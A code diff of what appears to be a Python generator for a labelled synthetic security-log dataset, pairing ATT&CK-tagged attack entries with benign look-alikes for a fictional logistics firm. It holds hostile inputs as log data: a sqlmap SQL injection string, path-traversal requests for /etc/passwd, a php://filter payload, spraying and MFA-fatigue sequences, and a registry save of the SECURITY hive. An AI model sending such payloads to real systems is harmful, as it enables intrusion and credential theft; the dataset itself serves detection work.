+    M(S, ngx(T(23, 20, 30, 10, i * 120), "45.143.203.88", f"GET {p} HTTP/1.1", 404 if i != 4 else 200, 153 if i != 4 else 4120, ua="Mozilla/5.0 (compatible; ffuf/2.1.0)", rt=f"0.00{i + 1}", host="tms.ravenmoor.eu"),
       "T1595.003", "ffuf wordlist run against sensitive file names - wordlist scanning")
 M(S, ngx(T(23, 20, 31, 0), "45.143.203.88", "GET /tms/search?q=1%27%20AND%20EXTRACTVALUE(1%2CCONCAT(0x7e%2C(SELECT%20%40%40version)))--%20- HTTP/1.1", 500, 812, ua="sqlmap/1.8.11#stable (https://sqlmap.org)", rt="0.310", host="tms.ravenmoor.eu"),
   "T1190", "error-based SQL injection from sqlmap")
@@ -1586,38 +1551,38 @@ M(S, ngx(T(23, 21, 22, 0), "179.43.151.12", "POST /tms/render HTTP/1.1", 200, 88
   "T1190", "Jinja2 server-side template injection running os.popen")
 M(S, ngx(T(23, 21, 25, 0), "103.251.167.20", "GET /portal/download?file=....//....//....//etc/passwd HTTP/1.1", 200, 2211, ua="Mozilla/5.0", rt="0.004"),
   "T1083", "filter-evading ....// traversal reading /etc/passwd")
-M(S, wjson(T(23, 21, 30, 0), "77.91.124.60", "GET", "/portal/api/v2/me", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", size=812, session_id="s-7f1e..c92a", session_first_ip="81.2.69.125", geo="RU"),
+M(S, wjson(T(23, 21, 30, 0), "77.91.124.60", "GET", "/portal/api/v2/me", 200, "Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0", size=812, session_id="s-7f1e..c92a", session_first_ip="86.131.44.125", geo="RU"),
   "T1550.004", "portal session cookie first issued to a UK office address replayed from a different country")
 M(S, ngx(T(23, 21, 40, 0), "10.212.40.21", "GET /api/internal/admin/export?all=true HTTP/1.1", 200, 210044120, ua="Wget/1.21.4", rt="88.120", host="paygw.rvm.internal"),
   "T1005", "200 MB admin export pulled with wget by the compromised ingest host")
 # benign
-B(S, ngx(T(24, 9, 0, 0), "81.2.69.201", "GET /tms/search?q=rotterdam%20or%20antwerp HTTP/1.1", 200, 4120, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.081", host="tms.ravenmoor.eu"),
+B(S, ngx(T(24, 9, 0, 0), "86.131.44.201", "GET /tms/search?q=rotterdam%20or%20antwerp HTTP/1.1", 200, 4120, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.081", host="tms.ravenmoor.eu"),
   "ordinary search containing 'or'")
-B(S, ngx(T(24, 9, 1, 0), "81.2.69.201", "GET /tms/search?q=%22Union%20Frozen%20Foods%22%20select%20pallets HTTP/1.1", 200, 3911, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.077", host="tms.ravenmoor.eu"),
+B(S, ngx(T(24, 9, 1, 0), "86.131.44.201", "GET /tms/search?q=%22Union%20Frozen%20Foods%22%20select%20pallets HTTP/1.1", 200, 3911, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.077", host="tms.ravenmoor.eu"),
   "customer name containing 'Union' and the word 'select' in quotes - not injection")
-B(S, ngx(T(24, 9, 2, 0), "81.2.69.201", "GET /tms/search?q=O%27Brien%20Haulage HTTP/1.1", 200, 1201, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.060", host="tms.ravenmoor.eu"),
+B(S, ngx(T(24, 9, 2, 0), "86.131.44.201", "GET /tms/search?q=O%27Brien%20Haulage HTTP/1.1", 200, 1201, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.060", host="tms.ravenmoor.eu"),
   "apostrophe in a company name")
 for i, p in enumerate(["/?id=1%27%20OR%20%271%27%3D%271", "/..%2f..%2f..%2fetc%2fpasswd", "/cgi-bin/test-cgi", "/index.php?page=php://filter/convert.base64-encode/resource=index"]):
     B(S, ngx(T(24, 10, 0, 1 + i), "10.212.250.11", f"GET {p} HTTP/1.1", 404, 153, ua="Mozilla/5.0 (compatible; Nessus SOAP v0.0.1; Tenable approved scan VSCAN-01)", rt="0.002", host="tms.ravenmoor.eu"),
       "attack payloads from the approved Tenable scanner VSCAN-01 during the scan window")
 B(S, wjson(T(24, 10, 5, 0), "10.212.250.12", "GET", "/portal/api/v2/auth/login?username=admin%27--", 400, "Qualys WAS/10.2 (authorised scan RVM-WAS-weekly)", size=88),
   "Qualys WAS authorised scan payload")
-B(S, wjson(T(24, 8, 30, 0), "81.2.69.125", "POST", "/portal/api/v2/auth/login", 200, CH, size=1022, login="f.osei@ravenmoor.eu"), "staff portal login")
+B(S, wjson(T(24, 8, 30, 0), "86.131.44.125", "POST", "/portal/api/v2/auth/login", 200, CH, size=1022, login="f.osei@ravenmoor.eu"), "staff portal login")
 B(S, wjson(T(24, 8, 31, 0), "92.40.176.201", "POST", "/portal/api/v2/auth/login", 401, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=61, login="dispatch@polarlog.nl"),
   "one partner mistyping the portal password once")
 B(S, wjson(T(24, 8, 32, 0), "92.40.176.201", "POST", "/portal/api/v2/auth/login", 200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=1022, login="dispatch@polarlog.nl"), "and the retry succeeding")
 B(S, wjson(T(24, 8, 40, 0), "92.40.176.201", "GET", "/portal/api/v2/shipments?customerId=4412&limit=50", 200, "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148", size=22011), "partner listing its shipments")
-B(S, iis(T(24, 8, 45, 0), "10.212.40.70", "GET", "/owa/", "ClientId=4F1C0D2E3A5B4C6D&exsvurl=1&ll-cc=2057", 443, "RVM\\w.lindqvist", "81.2.69.201", CH, 200), "OWA use")
+B(S, iis(T(24, 8, 45, 0), "10.212.40.70", "GET", "/owa/", "ClientId=4F1C0D2E3A5B4C6D&exsvurl=1&ll-cc=2057", 443, "RVM\\w.lindqvist", "86.131.44.201", CH, 200), "OWA use")
 B(S, iis(T(24, 8, 46, 0), "10.212.40.70", "POST", "/Microsoft-Server-ActiveSync/default.eas", "Cmd=Ping&User=f.osei&DeviceId=ABCD1234EFGH&DeviceType=iPhone", 443, "RVM\\f.osei", "92.40.176.45", "Apple-iPhone16C1/2201.211", 200, taken=540012),
   "long-poll ActiveSync ping")
 B(S, iis(T(24, 8, 47, 0), "10.212.40.70", "GET", "/aspnet_client/", "-", 443, "-", "10.212.250.11", "Mozilla/5.0 (compatible; Nessus)", 403, 14, 0, 2), "approved scanner enumerating IIS folders")
 B(S, ngx(T(24, 9, 10, 0), "10.212.70.12", "GET /healthz HTTP/1.1", 200, 2, ua="kube-probe/1.31", rt="0.000", host="tms.ravenmoor.eu"), "kubelet health probe")
-B(S, ngx(T(24, 9, 11, 0), "81.2.69.201", "GET /static/app.4f1c0d.js HTTP/2.0", 304, 0, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.000", host="tms.ravenmoor.eu"), "cached static asset")
+B(S, ngx(T(24, 9, 11, 0), "86.131.44.201", "GET /static/app.4f1c0d.js HTTP/2.0", 304, 0, ref="https://tms.ravenmoor.eu/tms/", ua=CH, rt="0.000", host="tms.ravenmoor.eu"), "cached static asset")
 B(S, ngx(T(24, 9, 12, 0), "66.249.66.10", "GET /robots.txt HTTP/1.1", 200, 68, ua="Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), "search crawler")
 B(S, wjson(T(24, 9, 20, 0), "10.212.9.20", "POST", "/portal/api/v2/internal/deploy-hook", 204, "GitLab/17.6.1", size=0, upstream="10.212.40.31:8080"), "CI deploy hook")
-B(S, ngx(T(24, 9, 30, 0), "81.2.69.77", "GET /portal/download?file=invoices%2F2026%2F11%2FINV-88213.pdf HTTP/1.1", 200, 88120, ref="https://portal.ravenmoor.eu/", ua=CH, rt="0.120"), "customer downloading an invoice by path")
+B(S, ngx(T(24, 9, 30, 0), "86.131.44.77", "GET /portal/download?file=invoices%2F2026%2F11%2FINV-88213.pdf HTTP/1.1", 200, 88120, ref="https://portal.ravenmoor.eu/", ua=CH, rt="0.120"), "customer downloading an invoice by path")
 B(S, wjson(T(24, 9, 40, 0), "10.212.8.15", "GET", "/portal/api/v2/internal/admin/export?since=2026-11-23", 200, "veeam-plugin/12.2", size=20220110, rt=9.8, host="paygw.rvm.internal"), "scheduled nightly export pulled by the backup plug-in")
-B(S, ngx(T(24, 9, 50, 0), "81.2.69.90", "GET /wp-login.php HTTP/1.1", 404, 153, ua=CH, host="tms.ravenmoor.eu"), "one stray WordPress URL from a staff bookmark")
+B(S, ngx(T(24, 9, 50, 0), "86.131.44.90", "GET /wp-login.php HTTP/1.1", 404, 153, ua=CH, host="tms.ravenmoor.eu"), "one stray WordPress URL from a staff bookmark")
 B(S, wjson(T(24, 10, 10, 0), "10.212.40.30", "GET", "/latest/meta-data/placement/region", 200, "aws-sdk-java/2.29.20", size=12, host="169.254.169.254", upstream="-"), "SDK reading its own region from IMDS")
 # ---------------------------------------------------------------- okta
 S = "okta"
@@ -1655,12 +1620,12 @@ def tgt(kind, alt, name=None):
 
 
 # ThreatInsight-style spray: many users one address, 6 lines
-for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz", "p.ruiz"]):
-    M(S, okta(T(23, 22, 10, 1 + i * 2, 50 * i), "user.session.start", f"{u}@ravenmoor.eu", "194.26.29.201", "FAILURE", "INVALID_CREDENTIALS", ua="python-requests/2.32.3", os_="Unknown", browser="UNKNOWN",
+for i, u in enumerate(["a.novak", "c.brandt", "d.mensah", "g.ferrante", "h.yilmaz"]):
+    M(S, okta(T(23, 22, 10, 1 + i * 2, 50 * i), "user.session.start", f"{u}@ravenmoor.eu", "194.180.49.201", "FAILURE", "INVALID_CREDENTIALS", ua="python-requests/2.32.3", os_="Unknown", browser="UNKNOWN",
               geo=("Amsterdam", "NL"), asn=("DIGITALOCEAN", "14061"), threat=True, wrap="fluentbit" if i % 2 else None),
       "T1110.003", "one address failing sign-in for many users seconds apart with ThreatInsight suspicion - password spraying")
 # MFA fatigue: pushes rejected repeatedly, one user, 6 lines
-for i in range(6):
+for i in range(5):
     M(S, okta(T(23, 22, 30, 5 + i * 8), "system.push.send_factor_verify_push", "b.ostrowski@ravenmoor.eu", "77.91.124.55", "SUCCESS" if i % 2 == 0 else "FAILURE",
               None if i % 2 == 0 else "USER_REJECTED_OKTA_VERIFY_PUSH", ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", os_="Linux", browser="FIREFOX", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
       "T1621", "push after push sent and rejected for one user from a VPS - MFA fatigue")
@@ -1691,7 +1656,7 @@ M(S, okta(T(23, 22, 57, 0), "user.session.impersonation.initiate", "b.ostrowski@
 M(S, okta(T(23, 23, 0, 0), "user.session.start", "f.osei@ravenmoor.eu", "185.220.101.47", ua="Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36", geo=("Unknown", "Unknown"), asn=("Tor", "60729"), proxy=True,
   dtd={"dtHash": "3f2e1d0c9b8a", "reqUri": "/idp/idx/identify"}, behaviors="{New IP=POSITIVE, New Geo-Location=POSITIVE}"),
   "T1078.004", "session for the push-fatigued user's colleague from a Tor exit flagged as proxy")
-M(S, okta(T(23, 23, 5, 0), "policy.evaluate_sign_on", "l.moreau@ravenmoor.eu", "103.251.167.20", outcome="ALLOW", dtd={"threatSuspected": "false", "deviceTrust": "UNTRUSTED", "cookieReplay": "DT cookie from 81.2.69.90 used from 103.251.167.20"},
+M(S, okta(T(23, 23, 5, 0), "policy.evaluate_sign_on", "l.virtanen@ravenmoor.eu", "103.251.167.20", outcome="ALLOW", dtd={"threatSuspected": "false", "deviceTrust": "UNTRUSTED", "cookieReplay": "DT cookie from 86.131.44.90 used from 103.251.167.20"},
   geo=("Hanoi", "VN"), asn=("VNPT", "45899")),
   "T1550.004", "device-trust session cookie replayed from a foreign address - stolen web session cookie")
 M(S, okta(T(23, 23, 10, 0), "application.user_membership.add", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("AppInstance", "AWS IAM Identity Center"), tgt("User", "b.ostrowski@ravenmoor.eu")], geo=("Frankfurt", "DE"), asn=("Aeza", "210644"), wrap="fluentbit"),
@@ -1699,33 +1664,32 @@ M(S, okta(T(23, 23, 10, 0), "application.user_membership.add", "b.ostrowski@rave
 M(S, okta(T(23, 23, 15, 0), "system.log_stream.lifecycle.deactivate", "b.ostrowski@ravenmoor.eu", "77.91.124.55", targets=[tgt("LogStream", "eventbridge-siem")], severity="WARN", geo=("Frankfurt", "DE"), asn=("Aeza", "210644")),
   "T1562.008", "the log stream feeding the SIEM deactivated")
 # benign
-B(S, okta(T(24, 8, 0, 0), "user.session.start", "w.lindqvist@ravenmoor.eu", "81.2.69.201"), "morning sign-in from home broadband")
-B(S, okta(T(24, 8, 0, 5), "user.authentication.auth_via_mfa", "w.lindqvist@ravenmoor.eu", "81.2.69.201", behaviors="{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE}", risk="{level=LOW}"), "MFA at sign-in")
-B(S, okta(T(24, 8, 1, 0), "user.authentication.sso", "w.lindqvist@ravenmoor.eu", "81.2.69.201", targets=[tgt("AppInstance", "Microsoft Office 365")], wrap="eventbridge"), "SSO into Office 365")
+B(S, okta(T(24, 8, 0, 0), "user.session.start", "w.lindqvist@ravenmoor.eu", "86.131.44.201"), "morning sign-in from home broadband")
+B(S, okta(T(24, 8, 0, 5), "user.authentication.auth_via_mfa", "w.lindqvist@ravenmoor.eu", "86.131.44.201", behaviors="{New Geo-Location=NEGATIVE, New Device=NEGATIVE, New IP=NEGATIVE}", risk="{level=LOW}"), "MFA at sign-in")
+B(S, okta(T(24, 8, 1, 0), "user.authentication.sso", "w.lindqvist@ravenmoor.eu", "86.131.44.201", targets=[tgt("AppInstance", "Microsoft Office 365")], wrap="eventbridge"), "SSO into Office 365")
 B(S, okta(T(24, 8, 5, 0), "user.session.start", "n.achebe@ravenmoor.eu", "92.40.176.88", "FAILURE", "INVALID_CREDENTIALS"), "new hire's single failed sign-in")
 B(S, okta(T(24, 8, 5, 40), "user.session.start", "n.achebe@ravenmoor.eu", "92.40.176.88"), "and her successful retry")
-B(S, okta(T(24, 8, 10, 0), "system.push.send_factor_verify_push", "r.iyer@ravenmoor.eu", "81.2.69.120"), "one push sent")
-B(S, okta(T(24, 8, 10, 9), "user.authentication.auth_via_mfa", "r.iyer@ravenmoor.eu", "81.2.69.120", wrap="fluentbit"), "approved at once")
-B(S, okta(T(24, 9, 0, 0), "user.mfa.factor.reset_all", "adm-t.okonkwo@ravenmoor.eu", "81.2.69.144", targets=[tgt("User", "b.ostrowski@ravenmoor.eu")], display="Reset all factors for user",
+B(S, okta(T(24, 8, 10, 0), "system.push.send_factor_verify_push", "r.iyer@ravenmoor.eu", "86.131.44.120"), "one push sent")
+B(S, okta(T(24, 8, 10, 9), "user.authentication.auth_via_mfa", "r.iyer@ravenmoor.eu", "86.131.44.120", wrap="fluentbit"), "approved at once")
+B(S, okta(T(24, 9, 0, 0), "user.mfa.factor.reset_all", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("User", "b.ostrowski@ravenmoor.eu")], display="Reset all factors for user",
   dtd={"changeTicket": "INC-30418 incident recovery"}), "IR admin resetting the hijacked user's factors with an incident ticket")
-B(S, okta(T(24, 9, 5, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "81.2.69.144", targets=[tgt("Token", "okta-backup-sync")], dtd={"changeTicket": "INC-30418"}), "IR admin revoking the attacker's token")
-B(S, okta(T(24, 9, 10, 0), "system.api_token.create", "adm-t.okonkwo@ravenmoor.eu", "81.2.69.144", targets=[tgt("Token", "siem-reader-2026-12")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}),
+B(S, okta(T(24, 9, 5, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "okta-backup-sync")], dtd={"changeTicket": "INC-30418"}), "IR admin revoking the attacker's token")
+B(S, okta(T(24, 9, 10, 0), "system.api_token.create", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "siem-reader-2026-12")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}),
   "known admin rotating the SIEM reader token with a change ticket")
-B(S, okta(T(24, 9, 11, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "81.2.69.144", targets=[tgt("Token", "siem-reader-2026-09")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}), "old SIEM token revoked in the same rotation")
+B(S, okta(T(24, 9, 11, 0), "system.api_token.revoke", "adm-t.okonkwo@ravenmoor.eu", "86.131.44.144", targets=[tgt("Token", "siem-reader-2026-09")], dtd={"changeTicket": "CHG-21150 quarterly SIEM token rotation"}), "old SIEM token revoked in the same rotation")
 B(S, okta(T(24, 9, 20, 0), "user.lifecycle.create", "svc_sailpoint_prov@ravenmoor.eu", "10.212.9.30", targets=[tgt("User", "b.tanaka@ravenmoor.eu")], ua="SailPoint-IIQ/8.4", os_="Unknown", browser="UNKNOWN"), "provisioning a new hire")
 B(S, okta(T(24, 9, 21, 0), "group.user_membership.add", "svc_sailpoint_prov@ravenmoor.eu", "10.212.9.30", targets=[tgt("User", "b.tanaka@ravenmoor.eu"), tgt("UserGroup", "SRE")], ua="SailPoint-IIQ/8.4", os_="Unknown", browser="UNKNOWN"), "joiner group membership")
-B(S, okta(T(24, 9, 30, 0), "user.mfa.factor.activate", "b.tanaka@ravenmoor.eu", "81.2.69.144", targets=[tgt("User", "b.tanaka@ravenmoor.eu"), tgt("AuthenticatorEnrollment", "Okta Verify", "Okta Verify (iPhone 15)")],
+B(S, okta(T(24, 9, 30, 0), "user.mfa.factor.activate", "b.tanaka@ravenmoor.eu", "86.131.44.144", targets=[tgt("User", "b.tanaka@ravenmoor.eu"), tgt("AuthenticatorEnrollment", "Okta Verify", "Okta Verify (iPhone 15)")],
   ua="Okta Verify/9.38.0 (iOS 18.1)", os_="iOS", browser="UNKNOWN"), "new hire enrolling Okta Verify on day one from the office")
-B(S, okta(T(24, 10, 0, 0), "zone.update", "adm-netops@ravenmoor.eu", "81.2.69.144", targets=[tgt("Zone", "Corporate-Trusted", "Corporate Trusted IPs")], display="Update network zone",
+B(S, okta(T(24, 10, 0, 0), "zone.update", "adm-netops@ravenmoor.eu", "86.131.44.144", targets=[tgt("Zone", "Corporate-Trusted", "Corporate Trusted IPs")], display="Update network zone",
   dtd={"changedAttributes": "gateways: -77.91.124.0/24", "changeTicket": "INC-30418"}), "IR removing the attacker range from the trusted zone")
-B(S, okta(T(24, 10, 10, 0), "user.session.start", "s.quinlan@ravenmoor.eu", "81.2.69.90", behaviors="{New Device=POSITIVE, New IP=NEGATIVE}"), "new laptop after hardware refresh, same home IP")
-B(S, okta(T(24, 10, 20, 0), "app.oauth2.as.consent.grant", "s.quinlan@ravenmoor.eu", "81.2.69.90", targets=[tgt("AppInstance", "Slack"), tgt("Scope", "openid profile email")]), "consent to the approved Slack app with basic scopes")
-B(S, okta(T(24, 10, 30, 0), "user.session.end", "w.lindqvist@ravenmoor.eu", "81.2.69.201"), "sign-out")
-B(S, okta(T(24, 11, 0, 0), "policy.evaluate_sign_on", "e.achterberg@ravenmoor.eu", "81.2.69.77", outcome="ALLOW", dtd={"deviceTrust": "TRUSTED"}), "managed device sign-on policy allow")
-B(S, okta(T(24, 11, 10, 0), "system.push.send_factor_verify_push", "e.achterberg@ravenmoor.eu", "81.2.69.77", "FAILURE", "USER_REJECTED_OKTA_VERIFY_PUSH", wrap="eventbridge"), "a single push rejected by mistake")
-B(S, okta(T(24, 11, 11, 0), "user.authentication.auth_via_mfa", "e.achterberg@ravenmoor.eu", "81.2.69.77"), "retry approved")
-B(S, okta(T(24, 11, 30, 0), "user.account.update_password", "f.osei@ravenmoor.eu", "81.2.69.125", targets=[tgt("User", "f.osei@ravenmoor.eu")]), "user changing her own password after the incident briefing")
-B(S, okta(T(24, 12, 0, 0), "user.authentication.sso", "l.brennan@ravenmoor.eu", "81.2.69.33", targets=[tgt("AppInstance", "GitLab")], wrap="fluentbit"), "SSO to GitLab")
+B(S, okta(T(24, 10, 10, 0), "user.session.start", "s.quinlan@ravenmoor.eu", "86.131.44.90", behaviors="{New Device=POSITIVE, New IP=NEGATIVE}"), "new laptop after hardware refresh, same home IP")
+B(S, okta(T(24, 10, 20, 0), "app.oauth2.as.consent.grant", "s.quinlan@ravenmoor.eu", "86.131.44.90", targets=[tgt("AppInstance", "Slack"), tgt("Scope", "openid profile email")]), "consent to the approved Slack app with basic scopes")
+B(S, okta(T(24, 11, 0, 0), "policy.evaluate_sign_on", "e.achterberg@ravenmoor.eu", "86.131.44.77", outcome="ALLOW", dtd={"deviceTrust": "TRUSTED"}), "managed device sign-on policy allow")
+B(S, okta(T(24, 11, 10, 0), "system.push.send_factor_verify_push", "e.achterberg@ravenmoor.eu", "86.131.44.77", "FAILURE", "USER_REJECTED_OKTA_VERIFY_PUSH", wrap="eventbridge"), "a single push rejected by mistake")
+B(S, okta(T(24, 11, 11, 0), "user.authentication.auth_via_mfa", "e.achterberg@ravenmoor.eu", "86.131.44.77"), "retry approved")
+B(S, okta(T(24, 11, 30, 0), "user.account.update_password", "f.osei@ravenmoor.eu", "86.131.44.125", targets=[tgt("User", "f.osei@ravenmoor.eu")]), "user changing her own password after the incident briefing")
+B(S, okta(T(24, 12, 0, 0), "user.authentication.sso", "l.brennan@ravenmoor.eu", "86.131.44.33", targets=[tgt("AppInstance", "GitLab")], wrap="fluentbit"), "SSO to GitLab")
 # ---------------------------------------------------------------- benign top-ups (ordinary noise, later in the week)
 S = "windows-security"
 B(S, ecs_win(4624, "RVM-FS-01.rvm.internal", T(26, 8, 30, 2, 5), {"TargetUserName": "f.osei", "TargetDomainName": "RVM", "LogonType": "3", "LogonProcessName": "Kerberos",
@@ -1746,14 +1710,14 @@ B(S, winxml(4738, DC, T(26, 9, 30, 0, 1), {"TargetUserName": "b.tanaka", "Target
 B(S, ecs_win(4672, DC, T(26, 9, 31, 0), {"SubjectUserName": "RVMDC4$", "SubjectDomainName": "RVM", "PrivilegeList": "SeSecurityPrivilege SeBackupPrivilege SeRestorePrivilege SeDebugPrivilege SeEnableDelegationPrivilege"},
   "logged-in-special", rec=77190010), "partner DC's computer account logon with special privileges")
 S = "vpn"
-B(S, ovpn(T(26, 8, 0, 0), "81.2.69.140:50221 TLS: Username/Password authentication succeeded for username 'h.yilmaz'"), "staff OpenVPN login from the UK")
-B(S, ovpn(T(26, 8, 0, 2), "h.yilmaz/81.2.69.140:50221 MULTI_sva: pool returned IPv4=10.212.202.51, IPv6=(Not enabled)"), "pool address")
-B(S, gp(T(26, 8, 10, 0), "gateway-hip-report", "g.ferrante", "81.2.69.160", "success", "HIP report received: host compliant", stage="hip", extra="Windows,RVM-LAP-1502,6.2.4,GB"), "HIP compliance report")
-B(S, fsv(T(26, 8, 20, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="92.40.176.30", tunnelip="10.212.200.44", user="\"d.mensah\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
+B(S, ovpn(T(26, 8, 0, 0), "86.131.44.140:50221 TLS: Username/Password authentication succeeded for username 'm.castellanos'"), "staff OpenVPN login from the UK")
+B(S, ovpn(T(26, 8, 0, 2), "m.castellanos/86.131.44.140:50221 MULTI_sva: pool returned IPv4=10.212.202.51, IPv6=(Not enabled)"), "pool address")
+B(S, gp(T(26, 8, 10, 0), "gateway-hip-report", "i.kovacs", "86.131.44.160", "success", "HIP report received: host compliant", stage="hip", extra="Windows,RVM-LAP-1502,6.2.4,GB"), "HIP compliance report")
+B(S, fsv(T(26, 8, 20, 0), level="\"information\"", logdesc="\"SSL VPN tunnel up\"", action="\"tunnel-up\"", tunneltype="\"ssl-tunnel\"", remip="92.40.176.30", tunnelip="10.212.200.44", user="\"y.adeyemi\"", group="\"SSLVPN-Users\"", msg="\"SSL tunnel established\""),
   "staff SSL-VPN from a mobile network")
-B(S, anyc(T(26, 8, 30, 0), "6-716001", "Group <RVM-Staff> User <a.novak> IP <81.2.69.59> WebVPN session started."), "clientless portal session")
-B(S, pulse(T(26, 8, 40, 0), "AUT22670", "Login succeeded for p.ruiz/RVM-Users from 92.40.176.61.", user="p.ruiz", ip="92.40.176.61"), "ICS login")
-B(S, zs(T(26, 8, 50, 0), Username="a.novak@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="81.2.69.59", ClientCountryCode="GB", Platform="windows", Version="4.5.0.286",
+B(S, anyc(T(26, 8, 30, 0), "6-716001", "Group <RVM-Staff> User <o.brandvold> IP <86.131.44.59> WebVPN session started."), "clientless portal session")
+B(S, pulse(T(26, 8, 40, 0), "AUT22670", "Login succeeded for v.romano/RVM-Users from 92.40.176.61.", user="v.romano", ip="92.40.176.61"), "ICS login")
+B(S, zs(T(26, 8, 50, 0), Username="o.brandvold@ravenmoor.eu", SessionStatus="ZPN_STATUS_AUTHENTICATED", ClientPublicIP="86.131.44.59", ClientCountryCode="GB", Platform="windows", Version="4.5.0.286",
   Hostname="RVM-LAP-1210", Application="tms.rvm.internal", ServerPort=443, Policy="All-Staff-Apps", ConnectionStatus="open"), "managed laptop to the TMS")
 S = "auditd"
 B(S, aud(T(26, 8, 0, 0), "USER_START", "pid=7100 uid=0 auid=1221 ses=40 subj=unconfined msg='op=PAM:session_open grantors=pam_selinux,pam_loginuid,pam_keyinit,pam_unix acct=\"b.tanaka\" exe=\"/usr/sbin/sshd\" hostname=10.212.31.90 addr=10.212.31.90 terminal=ssh res=success'", "UID=\"root\" AUID=\"b.tanaka\""),
@@ -1771,14 +1735,102 @@ S = "firewall"
 B(S, cef(T(26, 9, 0, 0), "Sophos", "XG Firewall", "20.0", "0000010201", "Web Filter", "2", "act=allow src=10.212.31.90 dst=151.101.1.69 dpt=443 app=HTTPS suser=b.tanaka cs2Label=policy cs2=Internet_Out request=https://pypi.org/simple/requests/"), "pip install from PyPI")
 B(S, forti(T(26, 9, 10, 0), logid="\"0000000013\"", type="\"traffic\"", subtype="\"forward\"", level="\"notice\"", srcip="10.212.31.90", srcport="51900", srcintf="\"lan\"", dstip="10.212.0.10", dstport="53", dstintf="\"servers\"", proto="17", action="\"accept\"", policyid="4", service="\"DNS\"", sentbyte="74", rcvdbyte="132"),
   "internal DNS query")
-B(S, asa(T(26, 9, 20, 0), "6-302015", "Built outbound UDP connection 1010221 for outside:162.159.200.123/123 (162.159.200.123/123) to inside:10.212.0.10/123 (81.2.69.151/123)"), "NTP from the internal time server")
+B(S, asa(T(26, 9, 20, 0), "6-302015", "Built outbound UDP connection 1010221 for outside:162.159.200.123/123 (162.159.200.123/123) to inside:10.212.0.10/123 (86.131.44.151/123)"), "NTP from the internal time server")
 S = "okta"
-B(S, okta(T(26, 8, 0, 0), "user.session.start", "b.tanaka@ravenmoor.eu", "81.2.69.144"), "new hire sign-in from the office")
-B(S, okta(T(26, 8, 0, 10), "user.authentication.sso", "b.tanaka@ravenmoor.eu", "81.2.69.144", targets=[tgt("AppInstance", "AWS IAM Identity Center")]), "SSO to AWS he was provisioned for")
+B(S, okta(T(26, 8, 0, 0), "user.session.start", "b.tanaka@ravenmoor.eu", "86.131.44.144"), "new hire sign-in from the office")
+B(S, okta(T(26, 8, 0, 10), "user.authentication.sso", "b.tanaka@ravenmoor.eu", "86.131.44.144", targets=[tgt("AppInstance", "AWS IAM Identity Center")]), "SSO to AWS he was provisioned for")
 S = "linux-syslog"
 B(S, r3164(T(26, 7, 0, 0), H2, "systemd[1]", "Started auditd.service - Security Auditing Service."), "auditd restarted by the recovery playbook")
-
-
+# ---------------------------------------------------------------- later additions: rarer techniques, and more benign noise
+S = "windows-security"
+M(S, winxml(4742, DC, T(26, 1, 20, 5, 3), {"ComputerAccountChange": "-", "TargetUserName": "RVM-LAP-1320$", "TargetDomainName": "RVM", "SubjectUserName": "k.haddad", "SubjectDomainName": "RVM",
+  "ServicePrincipalNames": "GC/RVM-LAP-1320.rvm.internal/rvm.internal E3514235-4B06-11D1-AB04-00C04FC2DCD2/7c1f0a2b-3d4e-4f50-8a61-7b8c9d0e1f20/rvm.internal", "DnsHostName": "-", "UserAccountControl": "-"},
+  77200011, task=13825), "T1207", "Global Catalog and DRS replication SPNs added to a laptop's computer account - DCShadow rogue domain controller")
+M(S, splunk_win(T(26, 1, 25, 0), 4688, "RVM-SQL-07.rvm.internal", 1940022, "Process Creation",
+  "A new process has been created.  Creator Subject: Security ID: RVM\\k.haddad Account Name: k.haddad Account Domain: RVM Logon ID: 0x6A1F0E2  Process Information: New Process ID: 0x1d44 New Process Name: C:\\Windows\\System32\\reg.exe Token Elevation Type: %%1937 Creator Process Name: C:\\Windows\\System32\\cmd.exe Process Command Line: reg.exe save hklm\\security C:\\Windows\\Temp\\sec.save"),
+  "T1003.004", "SECURITY hive saved to Temp - LSA secrets / cached credentials extraction")
+B(S, ecs_win(4624, "RVM-LAP-1502.rvm.internal", T(26, 8, 2, 0), {"TargetUserName": "i.kovacs", "TargetDomainName": "RVM", "LogonType": "11", "LogonProcessName": "User32 ", "AuthenticationPackageName": "Negotiate",
